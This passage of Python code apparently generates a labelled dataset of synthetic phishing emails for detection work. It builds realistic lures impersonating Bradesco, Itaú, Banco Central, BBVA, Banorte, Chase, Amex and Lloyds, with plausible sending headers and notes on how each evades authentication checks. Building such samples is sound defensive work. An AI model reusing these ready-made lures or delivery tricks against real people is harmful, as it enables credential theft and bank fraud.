    html = f"""<div dir="ltr"><div>Estimado usuario de Hotmail/Outlook:</div><div><br></div><div>Hemos detectado que su cuenta <a href="mailto:{rcpt}">{rcpt}</a> no ha sido verificada según la nueva política de seguridad de Microsoft 2024. Las cuentas no verificadas serán <b>cerradas en las próximas 24 horas</b> y todos sus correos, contactos y archivos de OneDrive serán eliminados.</div><div><br></div><div>Para mantener su cuenta activa, complete el formulario de verificación:</div><div><br></div><div><a href="{link}"><b>VERIFICAR MI CUENTA AHORA</b></a></div><div><br></div><div>Gracias por su comprensión.</div><div>Equipo de Soporte de Outlook</div><div><font size="1" color="#888888">© 2024 Microsoft Corporation</font></div></div>
"""
    headers = outlook_in(seed, t, rcpt, "209.85.208.52", host, host,
                         Auth(frm, "pass", "gmail.com", "pass", "gmail.com", "pass", "20230601"),
                         sender, lang="es", ctry="US")
    add("b35-phish-outlook-forms-es", "phish", "phishing",
        "Spanish 'su cuenta de Hotmail será cerrada' mail from a free Gmail address (passes Gmail's own auth) "
        "linking to a Microsoft Forms questionnaire that asks for the Outlook address and password",
        headers, gmail_alt(seed, plain, html))


def a09():
    seed = "a09"
    t = at(2025, 5, 6, 12, 44, 3)
    rcpt = "joaopaulo.lima77@gmail.com"
    frm = "atendimento@sistemasmaxx.com.br"
    host = "br612.hostgator.com.br"
    link = "https://cutt.ly/BrdChaveSeg25"
    sender = "\n".join([
        exim(host, t - timedelta(seconds=2), rcpt, frm, seed, client="[127.0.0.1] (port=38874 helo=br612.hostgator.com.br)",
             auth_user=frm, off=-180),
        dkim("sistemasmaxx.com.br", "default", t, CPANEL_H, seed, extra=" q=dns/txt;"),
        f"From: {addr('Bradesco Net Empresa', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Aviso: Sua Chave de Segurança Bradesco expira hoje - Protocolo 2025050684417', 'Q', 'iso-8859-1')}",
        f"Date: {rfc(t - timedelta(seconds=3), -180)}",
        f"Message-ID: {phpmailer_mid('sistemasmaxx.com.br', seed)}",
        "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        cpanel_antiabuse(host, "gmail.com", frm, "[1873 1875] / [47 12]"),
    ])
    html = html_page(f"""<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif">
<center>
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#cc092f;padding:22px 30px;color:#ffffff;font-size:24px;font-weight:bold">bradesco <span style="font-weight:normal;font-size:15px">net empresa</span></td></tr>
<tr><td style="padding:30px;font-size:14px;color:#333333;line-height:21px">
<p>Prezado(a) Cliente,</p>
<p>Identificamos que a sua <b>Chave de Segurança</b> vinculada ao Bradesco Net Empresa <b style="color:#cc092f">expira hoje, 06/05/2025</b>.</p>
<p>Para evitar o bloqueio das transações via Internet Banking e aplicativo (Pix, TED, pagamentos e transferências), realize agora a revalidação do seu dispositivo de segurança.</p>
<p style="text-align:center;padding:14px 0"><a href="{link}" style="background:#cc092f;color:#ffffff;padding:14px 34px;text-decoration:none;font-weight:bold;border-radius:24px">REVALIDAR CHAVE DE SEGURANÇA</a></p>
<p>Caso a atualização não seja realizada em até <b>24 horas</b>, seu acesso será suspenso preventivamente e será necessário comparecer a uma agência para o desbloqueio.</p>
<p>Protocolo: 2025050684417</p>
<p>Atenciosamente,<br>Banco Bradesco S.A.</p>
</td></tr>
<tr><td style="background:#f7f7f7;padding:16px 30px;font-size:11px;color:#888888">Fone Fácil Bradesco: 4002 0022 / 0800 570 0022. Este é um e-mail automático, por favor não responda.</td></tr>
</table></center>
</body>""", lang="pt-BR")
    plain = f"""Prezado(a) Cliente,

Identificamos que a sua Chave de Segurança vinculada ao Bradesco Net Empresa expira hoje, 06/05/2025.

Para evitar o bloqueio das transações via Internet Banking e aplicativo, realize agora a revalidação do seu dispositivo de segurança:
{link}

Caso a atualização não seja realizada em até 24 horas, seu acesso será suspenso preventivamente.

Protocolo: 2025050684417

Atenciosamente,
Banco Bradesco S.A.
"""
    headers = gmail_in(seed, t, rcpt, "162.241.60.213", host,
                       Auth(frm, "pass", "sistemasmaxx.com.br", "none", "sistemasmaxx.com.br", "pass", "default"), sender)
    add("b35-phish-bradesco-chave-seguranca", "phish", "phishing",
        "Bradesco 'Chave de Segurança expira hoje' lure sent with PHPMailer from a compromised HostGator Brasil site; "
        "cutt.ly short link to the credential page, 24-hour suspension threat",
        headers, alt(plain, html, f"b1_{aln(seed + 'b', 40)}", charset="iso-8859-1"))


def a10():
    seed = "a10"
    t = at(2025, 7, 15, 18, 9, 26)
    rcpt = "marcos.vinicius.rj@hotmail.com"
    frm = "comunicado@itau-comunicados.com"
    ses_id = f"01000198{hx(seed + 's1', 8)}-{guid(seed + 's2')}-000000"
    envfrom = f"{ses_id}@amazonses.com"
    link = f"https://itau-comunicados.com/reativar/?protocolo={digits(seed + 'pr', 12)}"
    ip = "54.240.8.30"
    ptr = "a8-30.smtp-out.amazonses.com"
    sender = "\n".join([
        dkim("itau-comunicados.com", "x7wq2jfyl3bduvx5k2t4kaf6f5l4a2kd", t,
             "Content-Type:From:To:Subject:Message-ID:Content-Transfer-Encoding:Date:MIME-Version", seed + "1", bits=1024),
        dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", t,
             "Content-Type:From:To:Subject:Message-ID:Content-Transfer-Encoding:Date:MIME-Version:Feedback-ID", seed + "2",
             bits=1024),
        "Content-Type: text/html; charset=UTF-8",
        f"From: {addr('Itaú Unibanco', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('iToken: seu dispositivo foi desativado. Reative agora')}",
        f"Message-ID: <{ses_id}@email.amazonses.com>",
        "Content-Transfer-Encoding: quoted-printable",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-54.240.8.30",
    ])
    html = html_page(f"""<body style="margin:0;background:#efe9e5">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="580" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,sans-serif;color:#3d3d3d">
<tr><td style="background:#ec7000;padding:18px 28px"><span style="display:inline-block;background:#003399;color:#ffd200;font-weight:bold;font-size:20px;padding:8px 10px;border-radius:6px">Itaú</span></td></tr>
<tr><td style="padding:32px 28px 8px 28px;font-size:22px;color:#ec7000;font-weight:bold">Seu iToken foi desativado</td></tr>
<tr><td style="padding:8px 28px;font-size:15px;line-height:23px">
<p>Olá, cliente Itaú.</p>
<p>Por motivo de segurança, o iToken vinculado ao seu aplicativo foi <b>desativado</b> após a atualização do sistema de autenticação realizada em 14/07/2025.</p>
<p>Sem o iToken ativo você não conseguirá fazer Pix, transferências e pagamentos pelo app e pelo internet banking.</p>
<p>A reativação é simples e leva menos de 3 minutos:</p>
</td></tr>
<tr><td style="padding:8px 28px 28px 28px"><a href="{link}" style="display:inline-block;background:#ec7000;color:#ffffff;font-size:16px;font-weight:bold;padding:14px 40px;border-radius:4px;text-decoration:none">Reativar iToken</a></td></tr>
<tr><td style="padding:0 28px 28px 28px;font-size:12px;color:#767676">Caso não realize a reativação em até 48 horas, será necessário comparecer à sua agência.<br><br>Itaú Unibanco S.A. - Praça Alfredo Egydio de Souza Aranha, 100 - São Paulo/SP</td></tr>
</table></td></tr></table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "itau-comunicados.com", "none", "itau-comunicados.com", "pass",
                              "x7wq2jfyl3bduvx5k2t4kaf6f5l4a2kd"),
                         sender, lang="pt", ctry="US")
    add("b35-phish-itau-itoken", "phish", "phishing",
        "Itaú 'iToken desativado, reative agora' lure sent through Amazon SES from the look-alike itau-comunicados.com "
        "(DKIM passes for the look-alike, no DMARC); button to the same domain's credential page",
        headers, text(html, "html"))


def a11():
    seed = "a11"
    t = at(2025, 3, 20, 13, 2, 55)
    rcpt = "fernandasantos.bh@gmail.com"
    frm = "contato@svr-consulta.com.br"
    uid = "37482019"
    envfrom = f"bounces+{uid}-6a1b-{rcpt.replace('@', '=')}@sendgrid.net"
    click = lambda n: f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64url(seed + 'c' + n, 160)}"  # noqa: E731
    ip = "149.72.154.231"
    ptr = "wrqvtbrf.outbound-mail.sendgrid.net"
    sender = "\n".join([
        dkim("sendgrid.net", "smtpapi", t, "from:subject:to:mime-version:content-type:content-transfer-encoding:cc:"
             "content-type:from:subject:to", seed, bits=1024),
        f"Received: by filterdrecv-{hx(seed + 'fd', 10)}-{aln(seed + 'fe', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')} with SMTP id "
        f"filterdrecv-{hx(seed + 'fd', 10)}-{aln(seed + 'fe', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}-1-{hx(seed + 'ff', 8, True)}-{int(hx(seed, 2), 16)}\n"
        f"        {rfc(t - timedelta(seconds=2))} (UTC)",
        f"Received: from {uid} (unknown)\n\tby geopod-ismtpd-{int(hx(seed + 'g', 2), 16) % 40} (SG) with HTTP\n\tid "
        f"{b64url(seed + 'sgid', 22)}\n\t{rfc(t - timedelta(seconds=3))} (UTC)",
        f"Date: {rfc(t - timedelta(seconds=3))} (UTC)",
        f"From: {addr('Valores a Receber - BCB', frm)}",
        f"Subject: {ew('SVR: você possui R$ 1.847,32 disponíveis para resgate - CPF ***.482.***-**')}",
        f"To: {rcpt}",
        f"Message-ID: <{b64url(seed + 'mid', 22)}@geopod-ismtpd-{int(hx(seed + 'g', 2), 16) % 40}>",
        "MIME-Version: 1.0",
        f"X-SG-EID: u001.{b64(seed + 'eid', 200)}",
        f"X-SG-ID: u001.{b64(seed + 'sgi', 120)}",
        f"X-Entity-ID: u001.{b64(seed + 'ent', 24)}==",
    ])
    sender = "\n".join(fold(line, 78, " ", split_long=True) if line.startswith("X-SG") else line for line in sender.split("\n"))
    html = html_page(f"""<body style="margin:0;background:#f4f6f8;font-family:Arial,Helvetica,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 6px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #1a3b6e">
<tr><td style="padding:22px 30px;font-size:13px;color:#1a3b6e"><b>BANCO CENTRAL DO BRASIL</b><br>Sistema de Valores a Receber (SVR)</td></tr>
<tr><td style="padding:6px 30px 0 30px;font-size:15px;color:#222;line-height:23px">
<p>Prezado(a) cidadão(ã),</p>
<p>Consta em nosso sistema um <b>valor esquecido</b> vinculado ao seu CPF ***.482.***-** em instituições financeiras participantes:</p>
<table width="100%" cellpadding="10" style="background:#eef3fa;border:1px solid #cfdcec;font-size:15px">
<tr><td>Valor disponível:</td><td align="right"><b style="color:#0a7a32;font-size:20px">R$ 1.847,32</b></td></tr>
<tr><td>Origem:</td><td align="right">Tarifas cobradas indevidamente / cotas de consórcio</td></tr>
<tr><td>Prazo para solicitação:</td><td align="right"><b>22/03/2025</b></td></tr>
</table>
<p>Após o prazo, o valor será devolvido ao Tesouro Nacional e não poderá mais ser resgatado.</p>
<p style="text-align:center;padding:10px 0 6px 0"><a href="{click('1')}" style="background:#0a7a32;color:#fff;padding:14px 30px;text-decoration:none;font-weight:bold;border-radius:4px">CONSULTAR E SOLICITAR RESGATE VIA PIX</a></p>
<p style="font-size:12px;color:#666">Para a liberação é necessário confirmar seus dados e a chave Pix que receberá o valor.</p>
</td></tr>
<tr><td style="padding:20px 30px;font-size:11px;color:#999">Banco Central do Brasil - SBS Quadra 3 Bloco B - Brasília/DF.
<a href="{click('2')}" style="color:#999">Descadastrar</a></td></tr>
</table></td></tr></table>
<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64url(seed + 'open', 120)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important">
</body>""", lang="pt-BR")
    plain = f"""BANCO CENTRAL DO BRASIL - Sistema de Valores a Receber (SVR)

Prezado(a) cidadão(ã),

Consta em nosso sistema um valor esquecido vinculado ao seu CPF ***.482.***-**:

Valor disponível: R$ 1.847,32
Prazo para solicitação: 22/03/2025

CONSULTAR E SOLICITAR RESGATE VIA PIX ( {click('1')} )

Descadastrar ( {click('2')} )
"""
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "svr-consulta.com.br", "none", "sendgrid.net", "pass", "smtpapi"), sender)
    add("b35-phish-valores-receber-bcb", "phish", "phishing",
        "'Valores a Receber' Banco Central lure (R$ 1.847,32 to claim via Pix) sent through SendGrid on its shared "
        "domain from svr-consulta.com.br; click-tracked links to a page harvesting CPF, bank data and a release fee",
        headers, Multi("alternative", hx(seed + "bd", 64), [text(plain, "plain"), text(html, "html")]))


def a12():
    seed = "a12"
    t = at(2025, 10, 2, 3, 27, 14)
    rcpt = "carlos.mendoza.mx@outlook.com"
    frm = "alertas@bbva-mx-seguridad.com"
    link = f"https://bbva-mx-seguridad.com/bancamovil/validacion?folio=MX{digits(seed + 'f', 10)}"
    ip = "193.143.1.58"
    helo = "mail.bbva-mx-seguridad.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=1), rcpt, seed, client="localhost (localhost [127.0.0.1])"),
        dkim("bbva-mx-seguridad.com", "default", t, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", seed),
        f"Date: {rfc(t - timedelta(seconds=2), -360)}",
        f"From: {addr('BBVA México', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Detectamos un acceso inusual a tu Banca Digital BBVA')}",
        f"Message-ID: <{hx(seed + 'm', 32)}@bbva-mx-seguridad.com>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#072146;padding:20px 32px;color:#ffffff;font-size:26px;font-weight:bold;letter-spacing:1px">BBVA</td></tr>
<tr><td style="padding:34px 32px 10px 32px;color:#121212;font-size:24px">Hola, cliente BBVA</td></tr>
<tr><td style="padding:0 32px;color:#121212;font-size:15px;line-height:24px">
<p>Detectamos un inicio de sesión en tu Banca Digital desde un dispositivo que no reconocemos:</p>
<table cellpadding="6" style="font-size:14px;background:#f4f4f4;width:100%">
<tr><td>Dispositivo:</td><td><b>Samsung Galaxy A54</b></td></tr>
<tr><td>Ubicación:</td><td><b>Monterrey, N.L.</b></td></tr>
<tr><td>Fecha:</td><td><b>01/10/2025 21:14 h</b></td></tr>
</table>
<p>Por tu seguridad, hemos limitado temporalmente las operaciones de tu cuenta. Si no reconoces esta actividad, valida tu identidad en un plazo máximo de <b>12 horas</b> para evitar el bloqueo de tus tarjetas.</p>
</td></tr>
<tr><td style="padding:18px 32px 34px 32px"><a href="{link}" style="background:#1973b8;color:#ffffff;font-size:15px;padding:14px 36px;text-decoration:none;display:inline-block">Validar mi identidad</a></td></tr>
<tr><td style="background:#f4f4f4;padding:18px 32px;font-size:11px;color:#666666">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. Av. Paseo de la Reforma 510, Col. Juárez, CDMX.
Este correo es informativo, por favor no respondas a esta dirección.</td></tr>
</table></td></tr></table>
</body>""", lang="es-MX")
    plain = f"""Hola, cliente BBVA

Detectamos un inicio de sesión en tu Banca Digital desde un dispositivo que no reconocemos:
Dispositivo: Samsung Galaxy A54
Ubicación: Monterrey, N.L.
Fecha: 01/10/2025 21:14 h

Por tu seguridad, hemos limitado temporalmente las operaciones de tu cuenta. Si no reconoces
esta actividad, valida tu identidad en un plazo máximo de 12 horas:
{link}

BBVA México, S.A.
"""
    headers = outlook_in(seed, t, rcpt, ip, "hosted-by.4vps.su", helo,
                         Auth(frm, "pass", "bbva-mx-seguridad.com", "none", "bbva-mx-seguridad.com", "pass", "default"),
                         sender, lang="es", ctry="RU")
    add("b35-phish-bbva-mx-acceso", "phish", "phishing",
        "BBVA México 'acceso inusual, valida tu identidad en 12 horas' lure from the look-alike bbva-mx-seguridad.com "
        "(own SPF/DKIM pass) on a Russian VPS; link to the look-alike's credential form",
        headers, alt(plain, html, f"b1_{aln(seed + 'b', 42)}"))


def a13():
    seed = "a13"
    t = at(2025, 8, 21, 16, 55, 38)
    rcpt = "andrea.salinas.gdl@gmail.com"
    frm = "banorte.alertas.mx@outlook.com"
    ip = "40.92.22.45"
    ptr = "mail-dm6nam12olkn2045.outbound.protection.outlook.com"
    mbx = f"DS7PR19MB{digits(seed + 'mb', 4)}.namprd19.prod.outlook.com"
    sender = "\n".join([
        "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" +
        "\n ".join(b64(seed + "as", 342)[i:i + 76] for i in range(0, 342, 76)) + "==",
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n "
        "h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        "X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={b64(seed + 'abh', 43)}=;\n b=" + "\n ".join(b64(seed + "am", 342)[i:i + 76] for i in range(0, 342, 76)) + "==",
        "ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none",
        dkim("outlook.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        fold(f"Received: from {mbx} (2603:10b6:8:1c0::9) by {mbx.replace('DS7PR19MB', 'SA1PR19MB')} with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=1))}"),
        fold(f"Received: from {mbx} ([fe80::{hx(seed + 'v6', 4)}:{hx(seed + 'v7', 4)}:{hx(seed + 'v8', 4)}:{hx(seed + 'v9', 4)}]) by "
             f"{mbx} ([fe80::{hx(seed + 'v6', 4)}:{hx(seed + 'v7', 4)}:{hx(seed + 'v8', 4)}:{hx(seed + 'v9', 4)}%4]) with mapi id "
             f"{exch_build(t)}; {rfc(t - timedelta(seconds=2))}"),
        f"From: {addr('Banorte Alertas', frm)}",
        f"To: {addr('', rcpt)}",
        "Subject: Cargo no reconocido por $8,749.00 MXN - Folio BNT-4472918",
        "Thread-Topic: Cargo no reconocido por $8,749.00 MXN - Folio BNT-4472918",
        f"Thread-Index: {b64(seed + 'ti', 24)}",
        f"Date: {rfc(t - timedelta(seconds=2))}",
        f"Message-ID: {exchange_mid(seed, mbx)}",
        "Accept-Language: es-MX, en-US",
        "Content-Language: es-MX",
        "X-MS-Has-Attach: ",
        "X-MS-TNEF-Correlator: ",
        f"x-tmn: [{b64(seed + 'tmn', 32)}]",
        "x-ms-publictraffictype: Email",
        "x-ms-exchange-messagesentrepresentingtype: 1",
        "MIME-Version: 1.0",
    ])
    plain = """Estimado cliente Banorte:

Le informamos que se registró un cargo a su Tarjeta de Crédito con terminación 4471:

Comercio: LIVERPOOL ONLINE
Importe: $8,749.00 MXN
Fecha: 21/08/2025 10:38 h
Folio: BNT-4472918

Si usted NO reconoce este movimiento, comuníquese de inmediato a nuestra Línea de Aclaraciones
al 55 8421 3377 (atención 24 horas) indicando su número de folio para cancelar el cargo y
bloquear su tarjeta.

Si no recibimos su llamada en las próximas 2 horas, el cargo se considerará reconocido.

Atentamente,
Centro de Monitoreo Banorte
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><style type="text/css" '
            'style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head><body dir="ltr">\n'
            '<div class="elementToProof" style="font-family:Aptos,Aptos_EmbeddedFont,Aptos_MSFontService,Calibri,Helvetica,'
            'sans-serif;font-size:12pt;color:rgb(0,0,0)">\n'
            + "<br>\n".join(line for line in plain.replace("Línea", "L&iacute;nea").split("\n"))
            + "\n</div>\n</body></html>\n")
    body = Multi("alternative", f"_000_{mbx.split('.')[0]}{hx(seed + 'bd', 16, True)}namp_", [
        text(plain, "plain", "quoted-printable", "iso-8859-1"), text(html, "html", "quoted-printable", "iso-8859-1")])
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "outlook.com", "pass", "outlook.com", "pass", "selector1",
                            policy_="p=NONE sp=QUARANTINE dis=NONE"), sender)
    add("b35-phish-banorte-callback", "phish", "phishing",
        "Banorte 'cargo no reconocido $8,749' alert sent from a free Outlook.com mailbox (passes outlook.com auth), "
        "no links: callback fraud asking the victim to phone a fake clarification line within 2 hours",
        headers, body)


def a14():
    seed = "a14"
    t = at(2024, 10, 29, 21, 14, 2)
    rcpt = "daniel.okafor@outlook.com"
    frm = "info@lakesideyogastudio.com"
    host = "p3plzcpnl506512.prod.phx3.secureserver.net"
    link = "https://chase-verify-access.webflow.io/"
    sender = "\n".join([
        exim(host, t - timedelta(seconds=2), rcpt, frm, seed, client="[102.89.34.118] (port=60212 helo=[192.168.8.101])",
             auth_user=frm, off=-420),
        dkim("lakesideyogastudio.com", "default", t, CPANEL_H, seed, extra=" q=dns/txt;"),
        f"From: {addr('Chase Online', frm)}",
        f"To: {rcpt}",
        "Subject: Your account access has been temporarily restricted",
        f"Date: {rfc(t - timedelta(seconds=3), -420)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@lakesideyogastudio.com>",
        "MIME-Version: 1.0",
        cpanel_antiabuse(host, "outlook.com", frm, "[1207 1208] / [47 12]"),
    ])
    html = html_page(f"""<body style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;color:#414042">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 0;border-bottom:1px solid #ccc"><span style="font-size:28px;color:#117aca;font-weight:bold">CHASE</span> <span style="font-size:22px;color:#117aca">&#9671;</span></td></tr>
<tr><td style="padding:26px 0 0 0;font-size:14px;line-height:21px">
<p>Dear Customer,</p>
<p>We noticed some unusual activity when you recently signed in to Chase Online. As a precaution, we have temporarily restricted access to your account.</p>
<p>To restore full access, please confirm your identity. This only takes a few minutes.</p>
<p><a href="{link}" style="color:#117aca;font-weight:bold">Sign in to confirm your identity &gt;</a></p>
<p>If we don't hear from you within 48 hours, your online access will remain suspended and any pending payments may be declined.</p>
<p>Thank you for being a valued Chase customer.</p>
<p>Sincerely,<br>Chase Online Security</p>
</td></tr>
<tr><td style="padding-top:30px;font-size:11px;color:#777">Please don't reply to this automatically generated e-mail.<br>&copy; 2024 JPMorgan Chase &amp; Co. Member FDIC</td></tr>
</table>
</body>""")
    headers = outlook_in(seed, t, rcpt, "160.153.0.87", host, host,
                         Auth(frm, "pass", "lakesideyogastudio.com", "none", "lakesideyogastudio.com", "pass", "default"),
                         sender)
    add("b35-phish-chase-restricted", "phish", "phishing",
        "Chase 'account access temporarily restricted' lure from a compromised yoga-studio mailbox on GoDaddy cPanel "
        "(logged in from a Nigerian IP); link to a webflow.io-hosted credential page",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def a15():
    seed = "a15"
    t = at(2024, 6, 12, 8, 40, 21)
    rcpt = "ryan.delgado.tx@gmail.com"
    frm = "americanexpress@welcome.americanexpress.com"
    ip = "103.151.124.62"
    link = "https://amex-cardverify.com/login/?ref=ACC-1006&session=" + hx(seed + "s", 16)
    sender = "\n".join([
        f"Received: from WIN-7D2KQ1F8H3M (unknown [103.151.124.62])\n\tby mail.welcome.americanexpress.com (Postfix) with ESMTPA id {hx(seed + 'q', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=1), 420)}",
        f"From: {addr('American Express', frm)}",
        f"To: {rcpt}",
        "Subject: Important: Unusual activity detected on your Card ending 1006",
        f"Date: {rfc(t - timedelta(seconds=2), 420, pad=True)}",
        f"Message-ID: <{hx(seed + 'm', 8, True)}{digits(seed + 'd', 6)}$@WIN-7D2KQ1F8H3M>",
        "MIME-Version: 1.0",
        "X-Priority: 3",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
    ])
    html = html_page(f"""<body style="margin:0;background:#ececec">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#006fcf;padding:18px 24px"><span style="display:inline-block;border:2px solid #fff;color:#fff;font-weight:bold;padding:6px 8px;font-size:13px;line-height:14px">AMERICAN<br>EXPRESS</span></td></tr>
<tr><td style="padding:26px 24px;color:#333;font-size:14px;line-height:21px">
<p style="font-size:20px;color:#006fcf">We've detected unusual activity on your Card</p>
<p>Card Member: <b>Card ending 1006</b></p>
<p>For your protection, we have placed a temporary hold on your Card after noticing a transaction that doesn't match your usual spending:</p>
<table width="100%" cellpadding="8" style="border:1px solid #ddd;font-size:13px">
<tr style="background:#f7f7f7"><td><b>Merchant</b></td><td><b>Amount</b></td><td><b>Date</b></td></tr>
<tr><td>APPLE.COM/BILL CUPERTINO CA</td><td>$1,249.00</td><td>06/11/2024</td></tr>
</table>
<p>Please verify your account so we can remove the hold and continue to protect your Card.</p>
<p style="padding:10px 0"><a href="{link}" style="background:#006fcf;color:#fff;padding:12px 28px;text-decoration:none;border-radius:4px">Verify Now</a></p>
<p style="font-size:12px;color:#777">If you do not verify within 24 hours, your Card will remain suspended.</p>
</td></tr>
<tr><td style="background:#f7f7f7;padding:16px 24px;font-size:11px;color:#777">Your account security is important to us. American Express will never ask for your password by email.<br>&copy; 2024 American Express. All rights reserved.</td></tr>
</table></td></tr></table>
</body>""")
    headers = gmail_in(seed, t, rcpt, ip, "",
                       Auth(frm, "fail", "welcome.americanexpress.com", "fail",
                            policy_="p=REJECT sp=REJECT dis=QUARANTINE"),
                       sender, tls="")
    add("b35-phish-amex-spoof", "phish", "phishing",
        "Direct spoof of American Express's welcome.americanexpress.com from an unresolved VPS IP (SPF fail, no DKIM, "
        "DMARC fail p=REJECT quarantined): 'unusual activity, card on hold' with a Verify Now link to a look-alike",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def a16():
    seed = "a16"
    t = at(2025, 11, 18, 19, 32, 12)
    rcpt = "kbrennan@live.com"
    dom = "mg.lloyds-secure-devices.com"
    frm = "noreply@lloyds-secure-devices.com"
    envfrom = f"bounce+{hx(seed + 'bb', 6)}.{hx(seed + 'bc', 6)}-kbrennan=live.com@{dom}"
    ip = "159.135.228.10"
    ptr = "m228-10.mailgun.net"
    mgc = lambda n: f"https://email.{dom}/c/eJx{b64url(seed + 'c' + n, 180)}"  # noqa: E731
    sender = "\n".join([
        dkim(dom, "pic", t, "Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:Subject:From:From:To:To:"
             "Message-Id:Date:Sender:Sender", seed, extra=f" q=dns/txt;"),
        f"X-Mailgun-Sending-Ip: {ip}",
        f"X-Mailgun-Sid: WyI{b64(seed + 'sid', 40)}",
        f"Received: by {hx(seed + 'rh', 24)} with HTTP id {hx(seed + 'rid', 24)}; {rfc(t - timedelta(seconds=1))}",
        f"X-Mailgun-Batch-Id: {hx(seed + 'batch', 24)}",
        f"Sender: {envfrom.split('+')[0].replace('bounce', 'noreply')}@{dom}",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        f"Subject: New device added to your Online Banking",
        f"From: {addr('Lloyds Bank', frm)}",
        f"To: {rcpt}",
        f"Message-Id: <{t:%Y%m%d%H%M%S}.{hx(seed + 'mid', 16)}@{dom}>",
        "Mime-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#f1f1f1;font-family:Arial,Helvetica,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#006a4d;padding:20px 28px;color:#ffffff;font-size:22px;font-weight:bold">LLOYDS BANK</td></tr>
<tr><td style="padding:28px;font-size:15px;color:#333333;line-height:23px">
<p>Dear Customer,</p>
<p>A new device was added to your Online Banking on <b>18 November 2025 at 19:21</b>.</p>
<table cellpadding="6" style="font-size:14px;background:#f6f6f6;width:100%">
<tr><td width="40%">Device:</td><td><b>iPhone 15 Pro</b></td></tr>
<tr><td>Location:</td><td><b>Birmingham, United Kingdom</b></td></tr>
</table>
<p>If this was you, you don't need to do anything.</p>
<p>If you don't recognise this device, please cancel the request immediately to stop any payments being set up from your account.</p>
<p style="padding:8px 0"><a href="{mgc('1')}" style="background:#006a4d;color:#ffffff;padding:12px 26px;text-decoration:none;font-weight:bold">Cancel this request</a></p>
<p>Thank you,<br>Lloyds Bank Security Team</p>
</td></tr>
<tr><td style="padding:18px 28px;font-size:11px;color:#777777;background:#f6f6f6">Lloyds Bank plc. Registered Office: 25 Gresham Street, London EC2V 7HN. Registered in England and Wales no. 2065.
Authorised by the Prudential Regulation Authority.</td></tr>
</table></td></tr></table>
<img width="1" height="1" alt="" src="https://email.{dom}/o/eJx{b64url(seed + 'o', 120)}">
</body>""")
    plain = f"""LLOYDS BANK

Dear Customer,

A new device was added to your Online Banking on 18 November 2025 at 19:21.
Device: iPhone 15 Pro
Location: Birmingham, United Kingdom

If you don't recognise this device, please cancel the request immediately:
{mgc('1')}

Thank you,
Lloyds Bank Security Team
"""
